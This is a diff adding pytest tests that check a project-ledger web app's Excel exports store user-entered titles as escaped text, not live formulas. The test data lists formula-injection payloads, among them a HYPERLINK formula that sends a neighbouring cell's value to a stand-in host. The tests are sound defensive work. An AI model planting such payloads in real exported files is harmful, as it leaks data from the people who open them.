@@ -156,6 +156,41 @@ def test_csv_ledger_keeps_formula_like_titles_as_text(party_engine, app, client)
     assert "市级部门台账项目" not in client.get("/projects/ledger.csv").data.decode("utf-8-sig")
 
 
+# Every export that writes a workbook: (path, who reads it).
+WORKBOOK_EXPORTS = [("/projects/ledger.xlsx?state=all", "supervisor"),
+                    ("/projects/ledger.xlsx?state=all", "county1_org")]
+FORMULA_TITLES = ['=HYPERLINK("http://x.invalid/?"&B3,"详情")', "+1+cmd", "-2+3", "@SUM(A1)", "\t=1+1"]
+
+
+@pytest.mark.parametrize(("path", "reader"), WORKBOOK_EXPORTS)
+def test_every_workbook_writes_user_text_as_text(party_engine, app, client, path, reader):
+    party = ProjectDriver(party_engine)
+    for applicant, title in zip((COUNTY, "county2_applicant", "county3_applicant", "county4_applicant",
+                                 DEPARTMENT), FORMULA_TITLES, strict=True):
+        party.apply(applicant, title)
+    party.at("2008-04-10")  # overdue by now: the days overdue are a number
+    login(client, reader)
+    response = client.get(path)
+    assert response.status_code == 200
+    book = openpyxl.load_workbook(io.BytesIO(response.data))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    written = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
+    assert FORMULA_TITLES[0] in written  # the county's own project
+    for title in set(FORMULA_TITLES) & set(written):
+        assert written[title].data_type == "s" and written[title].quotePrefix, title
+    assert any(isinstance(cell.value, int) for cell in cells)  # days overdue stay numbers
+
+
+def test_only_the_spreadsheet_helper_writes_workbook_cells():
+    from pathlib import Path
+
+    for module in Path("web").glob("*.py"):
+        source = module.read_text(encoding="utf-8")
+        if "openpyxl" in source and module.name != "spreadsheet.py":
+            assert ".append(" not in source.replace("append_row(", "") and "value=" not in source, module
+
+
 def test_bottlenecks_per_step_and_unit(projects):
     engine, _ids = projects
     found = engine.bottlenecks("supervisor", LedgerQuery())
